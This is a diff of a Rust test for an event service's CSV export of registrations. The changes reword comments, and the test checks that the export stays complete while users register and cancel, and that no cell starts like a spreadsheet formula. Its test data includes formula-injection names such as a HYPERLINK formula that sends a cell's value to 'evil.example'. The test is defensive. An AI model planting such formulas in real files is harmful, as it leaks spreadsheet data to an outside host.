@@ -9,10 +9,10 @@ use rstest::rstest;
 use serde_json::json;
 use tests::{Client, Daemon, Kind, new_event_in_2031};
 
-/// More than two pages of them, so that the table is sent in pieces.
+/// More than two pages, so that the table is sent in chunks.
 const PEOPLE: usize = 230;
 
-/// Names that a spreadsheet would run, or take apart.
+/// Names that a spreadsheet would run as a formula, or split.
 const NAMES: [&str; 18] = [
     "=1+1",
     "=HYPERLINK(\"https://evil.example?\"&A1,\"click\")",
@@ -49,11 +49,12 @@ async fn table(client: &Client, path: &str) -> (String, Vec<Vec<String>>) {
     (text, rows)
 }
 
-/// What no cell of a table may begin with.
+/// Asserts that no cell begins like a formula.
 #[track_caller]
 fn harmless(rows: &[Vec<String>]) {
     for cell in rows.iter().flatten() {
-        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']), "{cell}");
+        let formula = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
+        assert!(!cell.starts_with(formula), "{cell}");
     }
 }
 
@@ -70,7 +71,7 @@ async fn a_csv_export_is_complete_and_harmless_while_people_come_and_go(#[case] 
     let all = format!("/occurrences/{occurrence}/registrations");
     let mut names = BTreeMap::new();
     for number in 0..PEOPLE {
-        // Names may begin with what a formula begins with, too.
+        // Names may begin like formulas, too.
         let username = if number % 7 == 0 { format!("-person{number}") } else { format!("person{number}") };
         let name = NAMES[number % NAMES.len()];
         let user = eventcore::accounts::NewUser {
@@ -85,7 +86,7 @@ async fn a_csv_export_is_complete_and_harmless_while_people_come_and_go(#[case] 
         names.insert(username, name);
     }
 
-    // Meanwhile somebody comes and goes.
+    // Meanwhile one user registers and cancels.
     let stop = Arc::new(AtomicBool::new(false));
     let restless = daemon.user("restless").await;
     let coming_and_going = tokio::spawn({
@@ -103,7 +104,7 @@ async fn a_csv_export_is_complete_and_harmless_while_people_come_and_go(#[case] 
         assert_eq!(text.matches("username,display_name,status").count(), 1, "one head, however many pieces");
         let mut seen: BTreeMap<&str, usize> = BTreeMap::new();
         for row in rows[1..].iter().filter(|row| row[0] != "restless") {
-            // An apostrophe is all that was put in front.
+            // The only change is an apostrophe in front.
             let username = row[0].strip_prefix('\'').unwrap_or(&row[0]);
             let name = names[username];
             assert!(row[1] == name || row[1] == format!("'{name}"), "{row:?}");
@@ -115,7 +116,7 @@ async fn a_csv_export_is_complete_and_harmless_while_people_come_and_go(#[case] 
     stop.store(true, Ordering::Relaxed);
     coming_and_going.await.unwrap();
 
-    // The waitlist in its order, with its places; and those with seats.
+    // The waitlist in its order, with positions; and those with seats.
     let (_, rows) = table(&ada, &format!("{all}?status=waitlisted")).await;
     let places: Vec<usize> = rows[1..].iter().map(|row| row[4].parse().unwrap()).collect();
     assert_eq!(places, (1..=30).collect::<Vec<_>>());
@@ -135,7 +136,7 @@ async fn a_csv_export_is_complete_and_harmless_while_people_come_and_go(#[case] 
     refused(&daemon, &all).await;
 }
 
-/// Who may not read it gets a problem, and no table.
+/// Others get a problem document and no table.
 async fn refused(daemon: &Daemon, all: &str) {
     let accept = [("accept", "text/csv")];
     let bob = daemon.user("bob").await;
